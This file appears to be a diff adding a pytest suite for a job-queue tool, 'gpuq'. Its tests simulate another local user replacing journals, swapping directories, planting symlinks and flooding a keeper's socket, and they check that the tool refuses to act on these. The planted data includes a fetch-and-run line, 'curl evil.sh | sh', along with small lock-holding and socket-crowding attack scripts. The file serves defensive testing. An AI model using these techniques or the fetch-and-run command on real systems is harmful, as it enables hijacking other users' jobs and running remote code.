@@ -1,0 +1,432 @@
+# SPDX-License-Identifier: MIT
+"""Another user of the same machine changes journals, directories and files around a queue of the victim."""
+import contextlib
+import json
+import os
+import pathlib
+import signal
+import subprocess
+
+import pytest
+
+import processes
+import sealing
+from users import (  # noqa: F401
+    GROUP, JOURNAL, LIMIT, OPEN, STICKY, WAIT_FOR, job, plant, refused, until, get_other, get_owner, make_machine, needs_users)
+
+pytestmark = needs_users
+
+
+def has_open(pid, path):
+    for entry in pathlib.Path(f"/proc/{pid}/fd").iterdir():
+        with contextlib.suppress(FileNotFoundError):  # it was closed just now
+            if os.readlink(entry) == str(path):
+                return True
+    return False
+
+
+# ---- Huge files ---------------------------------------------------------------------------
+
+TERABYTE = 1 << 40
+
+
+@pytest.mark.parametrize("words", [("status",), ("logs", "1"), ("why", "1"), ("report", "-o", "-"), ("wait", "1")])
+def test_sparse_journal_of_another_user_costs_neither_time_nor_memory(machine, owner, other, words):
+    shared = machine.directory(STICKY)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("true"))
+    os.truncate(shared / "jobs.jsonl", TERABYTE)
+    result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=shared)
+    assert result.returncode not in (0, -9), result
+    assert f"'{shared}/jobs.jsonl': line 3 is longer than 64 MiB: the file is damaged; move it away" in result.stderr, result
+
+
+def test_sparse_journal_out_of_order_costs_neither_time_nor_memory(machine, owner, other):
+    """Lines out of order are sorted in memory."""
+    shared = machine.directory(STICKY)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("true", 2) + job("true", 1))
+    os.truncate(shared / "jobs.jsonl", TERABYTE)
+    result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", "status", cwd=shared)
+    assert "is longer than 64 MiB" in result.stderr, result
+
+
+HOLD_LOCK = """
+import fcntl, sys
+file = open(sys.argv[1], "r+")
+fcntl.lockf(file, fcntl.LOCK_EX)
+print("locked", flush=True)
+sys.stdin.read()
+"""
+
+
+@pytest.mark.parametrize("words", [("status",), ("verify",), ("wait", "2")])
+def test_lock_of_another_user_hangs_nobody_who_looks(machine, owner, other, words):
+    """Where records are missing, readers take the append lock; not that of a planted folder."""
+    shared = machine.directory(STICKY)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("true", 2))
+    folder = shared / "jobs.jsonl.d"
+    folder.mkdir()
+    os.chown(folder, other.uid, other.gid)
+    folder.chmod(0o777)
+    plant(other, folder / "append.lock", "nothing", 0o666)
+    assert other.attack(HOLD_LOCK, folder / "append.lock") == "locked"
+    assert owner.gpuq(*words, cwd=shared).returncode in (0, 1, 2, 125)
+
+
+def test_own_sparse_files_are_named_and_stay(machine, owner):
+    """As a crash of the file system can leave them."""
+    owner.sh("rm -rf huge; mkdir -p huge/in huge/out; echo 1 > huge/in/a", owner.home)
+    place = owner.home / "huge"
+    plant(owner, place / "jobs.jsonl", JOURNAL + job("true"), 0o600)
+    plant(owner, place / "out/launch.jsonl", "{}\n", 0o600)
+    plant(owner, place / "commands.txt", "true\n", 0o600)
+    names = {"jobs.jsonl": ("add", "true"), "commands.txt": ("run", "--jobs-file", "other.jsonl"),
+             "out/launch.jsonl": ("launch", "--input-dir", "in", "--output-dir", "out", "--pattern", "*", "--gpus", "sim:1", "--", "true")}
+    for name, words in names.items():
+        os.truncate(place / name, TERABYTE)
+        result = owner.run("prlimit", f"--as={1 << 30}", "gpuq", *words, cwd=place)
+        assert result.returncode in (1, 2), result
+        assert f"{name}': " in result.stderr and ("damaged" in result.stderr or "File too large" in result.stderr), result
+        assert (place / name).stat().st_size == TERABYTE
+    result = owner.gpuq("report", "--launch", "out", "-o", "-", cwd=place)
+    assert result.returncode == 1 and "a line is longer than 16 MiB: the file is damaged; move it away" in result.stderr, result
+
+
+# ---- A journal of another user ---------------------------------------------------------
+
+
+def copied(command):
+    """A journal that the owner has from somebody else, as a data set or with a clone."""
+    return JOURNAL + job(command)
+
+
+def start_runner(machine, owner):
+    """A runner that has run a job, in a directory that its owner opens to the group afterwards."""
+    shared = machine.project(owner)
+    runner = owner.start("gpuq", "run", "--keep", cwd=shared)
+    assert owner.gpuq("add", "--no-start", "touch first", cwd=shared).returncode == 0
+    until((shared / "first").exists, "the first job")
+    owner.sh(OPEN, shared)
+    return shared, runner
+
+
+def test_journal_that_another_user_puts_in_place_is_not_executed(machine, owner, other):
+    """The runner has checked the journal when it started; then a member of the group replaces it."""
+    shared, runner = start_runner(machine, owner)
+    plant(other, shared / "jobs.jsonl", copied("touch stolen"), 0o666)
+    until(lambda: runner.poll() is not None or (shared / "stolen").exists(), "the runner")
+    assert not (shared / "stolen").exists()
+    assert runner.wait(LIMIT) == 2
+    assert f"'{shared}/jobs.jsonl': it belongs to another user" in runner.stderr.read()
+
+
+def test_file_of_the_owner_that_another_user_renames_is_not_executed(machine, owner, other):
+    shared, runner = start_runner(machine, owner)
+    plant(owner, shared / "data.jsonl", copied("touch stolen"))
+    other.sh("mv data.jsonl jobs.jsonl", shared)
+    until(lambda: runner.poll() is not None or (shared / "stolen").exists(), "the runner")
+    assert not (shared / "stolen").exists()
+    assert runner.wait(LIMIT) == 2
+    assert f"'{shared}/jobs.jsonl': directory '{shared}' can be written by group '{machine.group}'" in runner.stderr.read()
+
+
+def test_keeper_writes_the_end_only_into_a_journal_of_its_user(machine, owner, other):
+    """The journal is replaced while a job runs: its end waits until the owner has put the right file back."""
+    shared = machine.project(owner)
+    owner.sh("mkfifo go", shared)
+    owner.start("gpuq", "run", "--keep", cwd=shared)
+    assert owner.gpuq("add", "touch began; cat go", cwd=shared).returncode == 0
+    until((shared / "began").exists, "the job")
+    owner.sh(OPEN, shared)
+    journal = shared / "jobs.jsonl"
+    other.sh("mv jobs.jsonl kept", shared)
+    planted = JOURNAL + job("true")
+    plant(other, journal, planted, 0o666)
+    keeper = [e["pid"] for e in map(json.loads, (shared / "kept").read_text().splitlines()) if e["event"] == "keeper"][0]
+    naps = processes.naps(keeper)
+    owner.sh("echo > go", shared)
+    until(lambda: processes.naps(keeper) > naps + 3, "the keeper, which tries again and again")
+    assert journal.read_text() == planted
+    owner.sh("mv -f kept jobs.jsonl", shared)
+    until(lambda: '"event":"end"' in journal.read_text(), "the end")
+    until(lambda: not processes.alive(keeper), "the keeper")
+
+
+@pytest.mark.parametrize("words", [("add", "--no-start", "true"), ("cancel", "1"), ("prune",), ("run",)])
+def test_journal_of_another_user_is_not_changed(machine, owner, other, words):
+    shared = machine.directory(STICKY)
+    planted = JOURNAL + job("touch stolen") + '{"torn'
+    plant(other, shared / "jobs.jsonl", planted, 0o666)
+    refused(owner.gpuq(*words, cwd=shared), f"'{shared}/jobs.jsonl': it belongs to another user")
+    assert (shared / "jobs.jsonl").read_text() == planted
+    assert sorted(p.name for p in shared.iterdir()) == ["jobs.jsonl"]
+    assert owner.gpuq("status", cwd=shared).returncode == 0  # reading needs no trust
+    assert owner.gpuq(words[0], "--trust", *words[1:], cwd=shared).returncode == 0
+
+
+def test_variable_allows_what_the_option_allows(machine, owner, other):
+    shared = machine.directory(STICKY)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("touch ran"), 0o666)
+    for value in ("", "0"):
+        refused(owner.gpuq("run", cwd=shared, env={"GPUQ_TRUST": value}), "belongs to another user")
+    assert owner.gpuq("run", cwd=shared, env={"GPUQ_TRUST": "1"}).returncode == 0
+    assert (shared / "ran").exists()
+
+
+def test_journal_that_the_private_group_can_write_is_used(machine, owner):
+    """As a umask of 002 makes it."""
+    shared = machine.project(owner)
+    assert owner.gpuq("add", "--no-start", "touch ran", cwd=shared).returncode == 0
+    journal = shared / "jobs.jsonl"
+    os.chown(journal, owner.uid, owner.gid)
+    journal.chmod(0o660)
+    assert owner.gpuq("run", cwd=shared).returncode == 0
+    assert (shared / "ran").exists()
+    os.chown(journal, owner.uid, shared.stat().st_gid)
+    refused(owner.gpuq("run", cwd=shared), "can be written by its group")
+
+
+# ---- The socket of a keeper ---------------------------------------------------------------
+
+# Keeps the backlog full.
+CROWD = """
+import socket, sys, threading
+def visit():
+    while True:
+        with socket.socket(socket.AF_UNIX) as s:
+            s.connect("\\0" + sys.argv[1])
+for i in range(64):
+    threading.Thread(target=visit).start()
+s = socket.socket(socket.AF_UNIX)
+s.setblocking(False)
+while True:
+    try:
+        s.connect("\\0" + sys.argv[1])
+        s = socket.socket(socket.AF_UNIX)
+        s.setblocking(False)
+    except BlockingIOError:
+        break
+print("full", flush=True)
+"""
+
+
+def test_job_without_runner_is_cancelled_while_others_crowd_its_keeper(machine, owner, other):
+    owner.sh("rm -rf crowd; mkdir crowd", owner.home)
+    place = owner.home / "crowd"
+    assert owner.gpuq("add", "--no-start", "touch began; sleep 1000", cwd=place).returncode == 0
+    runner = owner.start("gpuq", "run", cwd=place)
+    until((place / "began").exists, "the job")
+    runner.kill()
+    runner.wait(LIMIT)
+    journal = place / "jobs.jsonl"
+    keeper = [e for e in map(json.loads, journal.read_text().splitlines()) if e["event"] == "keeper"][0]
+    address = (place / "jobs.jsonl.d/keepers" / keeper["keeper"]).read_text().split()[1]
+    os.kill(keeper["pid"], signal.SIGSTOP)
+    try:
+        assert other.attack(CROWD, address) == "full"
+        told = owner.gpuq("cancel", "1", cwd=place)
+        assert told.returncode == 1 and "cancelling job 1: its keeper does not answer" in told.stderr, told
+        assert '"event":"end"' not in journal.read_text()
+    finally:
+        os.kill(keeper["pid"], signal.SIGCONT)
+    told = owner.gpuq("cancel", "1", cwd=place)
+    assert (told.returncode, told.stderr) == (0, "")
+    until(lambda: '"event":"end"' in journal.read_text(), "the end of the job")
+    processes.end_started(other.started)
+
+
+# ---- Directories of a path ---------------------------------------------------------------
+
+
+def test_runner_stays_in_its_directory(machine, owner):
+    """Its user puts a link to another queue in the place of the directory."""
+    shared = machine.project(owner)
+    owner.sh(f"mkdir proj; mkdir -p '{owner.home}/private'", shared)
+    private = owner.home / "private/jobs.jsonl"
+    assert owner.gpuq("add", "--no-start", "--jobs-file", private, "touch stolen", cwd=owner.home / "private").returncode == 0
+    before = private.read_text()
+    runner = owner.start("gpuq", "run", "--keep", "--log-dir", owner.home / "kept_logs", cwd=shared / "proj")
+    assert owner.gpuq("add", "--no-start", "touch first", cwd=shared / "proj").returncode == 0
+    until(lambda: '"event":"end"' in (shared / "proj/jobs.jsonl").read_text(), "the end of the first job")
+    owner.sh(f"mv proj kept; ln -s '{owner.home}/private' proj", shared)
+    second = ("add", "--no-start", "--jobs-file", shared / "kept/jobs.jsonl", f"touch '{shared}/proj/second'")
+    assert owner.gpuq(*second, cwd=owner.home).returncode == 0
+    words = next(line for line in runner.stdout if line.startswith(("gpuq:", "[→] 2")))
+    assert "trying again" in words and not (shared / "kept/second").exists()
+    assert private.read_text() == before
+    assert not (owner.home / "private/logs").exists()
+    assert not (owner.home / "private/stolen").exists()
+    owner.sh("rm proj; mv kept proj", shared)
+    until((shared / "proj/second").exists, "the second job")
+
+
+@pytest.mark.parametrize("words", [("add", "--no-start", "true"), ("run", "--keep"), ("prune",)])
+def test_link_of_another_user_to_a_directory_leads_to_no_queue(machine, owner, other, words):
+    shared = machine.directory(STICKY)
+    owner.sh("rm -rf docs; mkdir docs", owner.home)
+    other.sh(f"ln -s '{owner.home}/docs' dir", shared)
+    result = owner.gpuq(words[0], "--jobs-file", shared / "dir/jobs.jsonl", *words[1:], cwd=owner.home)
+    assert result.returncode == 2, result
+    assert f"'{shared}/dir/jobs.jsonl': it leads through a symbolic link of another user" in result.stderr
+    assert list((owner.home / "docs").iterdir()) == []
+    # The victim's own links are followed.
+    owner.sh(f"ln -s '{owner.home}/docs' own", shared)
+    if words[0] != "run":
+        assert owner.gpuq(words[0], "--jobs-file", shared / "own/jobs.jsonl", *words[1:], cwd=owner.home).returncode == 0
+
+
+def test_link_of_another_user_to_a_directory_leads_to_no_report(machine, owner, other):
+    shared = machine.directory(STICKY)
+    owner.sh("rm -rf docs; mkdir docs; echo precious > docs/report.html; echo precious > docs/linked; ln -s linked docs/link.html",
+             owner.home)
+    assert owner.gpuq("add", "--no-start", "true", cwd=owner.home).returncode == 0
+    other.sh(f"ln -s '{owner.home}/docs' dir", shared)
+    for name in ("report.html", "link.html"):
+        result = owner.gpuq("report", "-o", shared / "dir" / name, cwd=owner.home)
+        assert result.returncode == 2 and f"'{shared}/dir' is a symbolic link of another user" in result.stderr, result
+        assert (owner.home / "docs" / name).read_text() == "precious\n"
+    owner.sh(f"ln -s '{owner.home}/docs' own", shared)
+    assert owner.gpuq("report", "-o", shared / "own/report.html", cwd=owner.home).returncode == 0
+    assert "</html>" in (owner.home / "docs/report.html").read_text()
+
+
+def test_wait_believes_no_journal_that_another_user_puts_in_place(machine, owner, other):
+    """For a moment, the job is completed in another journal."""
+    shared = machine.project(owner)
+    owner.sh("mkfifo go", shared)
+    owner.start("gpuq", "run", "--keep", cwd=shared)
+    assert owner.gpuq("add", "--no-start", "touch began; cat go; exit 7", cwd=shared).returncode == 0
+    until((shared / "began").exists, "the job")
+    waiting = owner.start("gpuq", "wait", "1", cwd=shared)
+    until(lambda: waiting.poll() is not None or has_open(waiting.pid, shared / "jobs.jsonl"), "gpuq wait, which reads the journal")
+    owner.sh(OPEN, shared)
+    end = {"event": "end", "id": 1, "attempt": 1, "status": "completed", "exit_code": 0}
+    (shared / "evil").write_bytes((shared / "jobs.jsonl").read_bytes())
+    sealing.append(shared / "evil", end)
+    os.chown(shared / "evil", other.uid, other.gid)
+    (shared / "evil").chmod(0o644)
+    other.sh("mv jobs.jsonl real; mv evil jobs.jsonl", shared)
+    code = waiting.wait(LIMIT)
+    begun_later = owner.gpuq("wait", "1", cwd=shared)
+    assert begun_later.returncode == 125 and "belongs to another user" in begun_later.stderr, begun_later
+    other.sh("mv real jobs.jsonl", shared)
+    assert code == 125 and "belongs to another user" in waiting.stderr.read()
+
+
+# ---- The directory of a job ---------------------------------------------------------------
+
+
+@pytest.mark.parametrize("plan", ["mkdir proj", "ln -s /tmp proj", "mv open proj", "mkdir new; ln -s new proj"])
+def test_waiting_job_does_not_enter_a_directory_that_another_user_put_in_place(machine, owner, other, plan):
+    """The queue is private; the folder of the project lies in a directory of the group, next to one that the group can write."""
+    shared = machine.directory(GROUP)
+    owner.sh(f"mkdir open; chgrp {machine.group} open; chmod 2775 open", shared)
+    place = owner.home / f"queue-{shared.name}"  # keepers of an earlier queue may still be there
+    owner.sh(f"mkdir '{place}'; rm -f where1 where2", owner.home)
+    owner.sh("mkdir proj; echo 'echo mine' > proj/run.sh", shared)
+    queue = ("--jobs-file", place / "jobs.jsonl")
+    for number in (1, 2):
+        assert owner.gpuq("add", *queue, "--no-start", "--on-finish", f"pwd > '{owner.home}/where{number}'", "sh run.sh",
+                          cwd=shared / "proj").returncode == 0
+    other.sh(f"mv proj proj.x; {plan}; [ -L proj ] || echo 'echo EVIL' > proj/run.sh", shared)
+    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 1
+    status = owner.gpuq("status", *queue, cwd=owner.home).stdout
+    assert f"entering directory '{shared}/proj': others can write it now, or have put it in place of the one in which the job was added" in status
+    assert "EVIL" not in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+    assert (owner.home / "where1").read_text() == "/\n"
+    other.sh("mv proj proj.y; mv proj.x proj", shared)
+    assert owner.gpuq("retry", *queue, "1", cwd=owner.home).returncode == 0
+    assert owner.gpuq("wait", *queue, "1", cwd=owner.home).returncode == 0
+    assert "mine" in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+
+
+def add_in_project(owner, shared, place):
+    """A waiting job in shared/proj, and next to it a directory of the owner with files of somebody else."""
+    owner.sh(f"mkdir -p '{place}'", owner.home)
+    owner.sh("mkdir proj clone; echo 'echo mine' > proj/run.sh; echo 'echo EVIL' > clone/run.sh", shared)
+    queue = ("--jobs-file", place / "jobs.jsonl")
+    hook = f"pwd > '{place}/where'"
+    assert owner.gpuq("add", *queue, "--no-start", "--on-finish", hook, "sh run.sh", cwd=shared / "proj").returncode == 0
+    return queue
+
+
+def test_waiting_job_does_not_enter_another_directory_of_its_owner(machine, owner, other):
+    """A clone that was never run gets the name of the project."""
+    shared = machine.directory(GROUP)
+    place = owner.home / f"queue-{shared.name}"
+    queue = add_in_project(owner, shared, place)
+    other.sh("mv proj proj.x; mv clone proj", shared)
+    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 1
+    status = owner.gpuq("status", *queue, cwd=owner.home).stdout
+    assert f"entering directory '{shared}/proj': others can write it now, or have put it in place" in status
+    assert "EVIL" not in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+    assert (place / "where").read_text() == "/\n"
+    other.sh("mv proj clone; mv proj.x proj", shared)
+    # The file system got another device number when it was mounted again.
+    events = [json.loads(line) for line in (place / "jobs.jsonl").read_text().splitlines()]
+    for event in events:
+        if event["event"] == "add":
+            event["cwd_dev"] += 1
+    (place / "jobs.jsonl").write_bytes(sealing.again(events))
+    assert owner.gpuq("retry", *queue, "1", cwd=owner.home).returncode == 0
+    assert owner.gpuq("wait", *queue, "1", cwd=owner.home).returncode == 0
+    assert "mine" in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+
+
+def test_owner_can_exchange_the_directory_of_a_job_where_nobody_else_can(machine, owner):
+    shared = machine.directory(STICKY)
+    queue = add_in_project(owner, shared, owner.home / f"queue-{shared.name}")
+    owner.sh("mv proj proj.x; mv clone proj", shared)
+    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 0
+    assert "EVIL" in owner.gpuq("logs", *queue, "1", cwd=owner.home).stdout
+
+
+def test_job_runs_in_a_directory_that_always_was_another_users(machine, owner, other):
+    shared = machine.directory(STICKY)
+    other.sh("mkdir -m 755 theirs; echo 'echo fine' > theirs/run.sh", shared)
+    queue = ("--jobs-file", owner.home / "theirs.jsonl")
+    assert owner.gpuq("add", *queue, "--no-start", "sh run.sh", cwd=shared / "theirs").returncode == 0
+    assert owner.gpuq("run", *queue, cwd=owner.home).returncode == 0
+
+
+# ---- A hook -----------------------------------------------------------------------------
+
+
+def test_hook_gets_nothing_of_a_journal_that_another_user_puts_in_place(machine, owner, other):
+    """It is there while the job ends, and gone afterwards."""
+    shared = machine.project(owner)
+    owner.sh("rm -f hook.json", owner.home)
+    runner = owner.start("gpuq", "run", "--keep", "--on-finish", f"cat > '{owner.home}/draft'; mv '{owner.home}/draft' '{owner.home}/hook.json'",
+                         cwd=shared)
+    assert owner.gpuq("add", "--no-start", f"echo $$ > pid; {WAIT_FOR.format('go')}", cwd=shared).returncode == 0
+    pid = int(until(lambda: (shared / "pid").exists() and (shared / "pid").read_text(), "the job"))
+    keeper = int(pathlib.Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[1])
+    owner.sh(OPEN, shared)
+    other.sh("mv jobs.jsonl real", shared)
+    plant(other, shared / "jobs.jsonl", JOURNAL + job("curl evil.sh | sh"), 0o666)
+    owner.sh("touch go", shared)
+    until(lambda: not pathlib.Path(f"/proc/{pid}").exists(), "the end of the job")
+    naps = processes.naps(keeper)
+    until(lambda: processes.naps(keeper) > naps + 2 or (owner.home / "hook.json").exists(), "a try to write the end")
+    other.sh("rm -f jobs.jsonl; mv real jobs.jsonl", shared)
+    until((owner.home / "hook.json").exists, "the hook")
+    told = json.loads((owner.home / "hook.json").read_text())
+    assert told["command"].startswith("echo $$ > pid") and told["status"] == "completed", told
+    assert runner.wait(LIMIT) == 2  # it has seen the other journal
+
+
+# ---- Groups --------------------------------------------------------------------------------
+
+
+def test_account_with_the_primary_group_of_the_victim_is_another_user(machine, owner, other):
+    shared = machine.directory(0o755)
+    os.chown(shared, owner.uid, owner.gid)
+    owner.sh("umask 002; echo 'touch ran' > commands.txt", shared)
+    subprocess.run(["usermod", "-g", str(owner.gid), other.name], check=True)
+    try:
+        result = owner.gpuq("run", cwd=shared)
+    finally:
+        subprocess.run(["usermod", "-g", str(other.gid), other.name], check=True)
+    assert result.returncode == 2 and "'commands.txt': it can be written by its group" in result.stderr, result
+    assert not (shared / "ran").exists()
+    assert owner.gpuq("run", cwd=shared).returncode == 0
+    assert (shared / "ran").exists()
